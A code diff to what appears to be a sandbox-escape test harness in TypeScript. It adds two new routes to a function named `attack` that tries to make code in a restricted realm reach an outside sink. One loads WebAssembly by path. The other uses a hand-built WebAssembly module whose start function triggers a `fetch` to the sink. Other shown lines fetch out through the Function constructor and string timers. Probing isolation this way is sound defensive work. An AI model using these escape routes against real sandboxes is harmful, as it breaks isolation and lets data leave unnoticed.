@@ -3,6 +3,8 @@
  * it gets out. Each way asks the sink for an address of its own, so that what got out is known.
  */
 
+declare const WXWebAssembly: Pick<typeof WebAssembly, 'Module' | 'Instance'> & { instantiate(path: string): unknown };
+
 /** @param where whom it asks; @param stun host and port of a UDP socket; @param name of hosts that only a resolver would hear of */
 export function attack(where: string, stun: string, name: string): string[] {
   // A program is given no global object; a function that is not strict has one all the same.
@@ -67,6 +69,15 @@ export function attack(where: string, stun: string, name: string): string[] {
   attempt('function', () => Function(`fetch("${url('function')}",{mode:"no-cors"})`)());
   attempt('timer', () => setTimeout(`fetch("${url('timer')}",{mode:"no-cors"})` as unknown as () => void, 0));
   attempt('wasm', () => WebAssembly.compileStreaming(fetch(url('wasm'))));
+  attempt('wasm-path', () => WXWebAssembly.instantiate(url('wasm-path')));
+  attempt('wasm-import', () => {
+    // It calls `e.f` when it begins, and can call nothing that it was not handed.
+    const types = [0x01, 0x04, 0x01, 0x60, 0x00, 0x00];
+    const code = [0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, ...types, 0x02, 0x07, 0x01, 0x01, 0x65, 0x01, 0x66];
+    const { Module, Instance } = typeof WXWebAssembly === 'undefined' ? WebAssembly : WXWebAssembly;
+    const f = () => void fetch(url('wasm-import'), { mode: 'no-cors' });
+    return new Instance(new Module(Uint8Array.from([...code, 0x00, 0x00, 0x08, 0x01, 0x00])), { e: { f } });
+  });
   attempt('location', () => {
     if (!realm.document) {
       self.location.href = url('location');
